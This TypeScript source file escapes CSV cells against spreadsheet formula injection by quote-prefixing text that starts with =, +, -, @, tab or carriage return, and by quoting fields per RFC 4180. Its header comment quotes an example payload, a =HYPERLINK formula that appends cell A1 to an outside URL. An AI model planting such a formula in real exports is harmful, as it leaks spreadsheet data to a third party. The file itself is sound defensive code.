/**
 * Cells bound for a spreadsheet (CSV opened in Excel or WPS). A cell starting with `=`, `+`, `-` or `@` is read as a
 * formula, and tab or carriage return lets the rest of a cell start a fresh one; a finding described as
 * `=HYPERLINK("http://…/?x="&A1,"点击查看")` would then run on the reviewer's machine. OWASP's rule (CSV Injection):
 * prefix such a text cell with a single quote, so it shows as text, and quote a cell holding a separator, quote or
 * line break (RFC 4180), so nothing inside it can end the cell early and start another.
 */
export type SpreadsheetCell = string | number;

const formulaStart = /^[=+\-@\t\r]/;

/** Text as the spreadsheet must show it: unchanged unless it would start a formula, then behind a single quote. */
export const neutraliseCell = (text: string): string => (formulaStart.test(text) ? `'${text}` : text);

/**
 * One CSV field. Text is neutralised, then quoted when it must be (quotes doubled). A number is written as a number,
 * because a finite JavaScript number prints as digits, a sign and an exponent and cannot carry a formula: `-2` stays
 * the value −2, while the text `-2+3` becomes `'-2+3`.
 */
export function csvField(cell: SpreadsheetCell): string {
  if (typeof cell === 'number') {
    if (!Number.isFinite(cell)) throw new RangeError(`a spreadsheet number must be finite, got ${cell}`);
    return String(cell);
  }
  const text = neutraliseCell(cell);
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

/**
 * A whole CSV document as Excel opens it: UTF-8 with a byte-order mark (without one Excel reads Chinese text as
 * mojibake), CRLF line ends, every field through csvField.
 */
export const csvDocument = (header: readonly string[], rows: readonly (readonly SpreadsheetCell[])[]): string =>
  `\uFEFF${[header, ...rows].map((row) => row.map(csvField).join(',')).join('\r\n')}\r\n`;
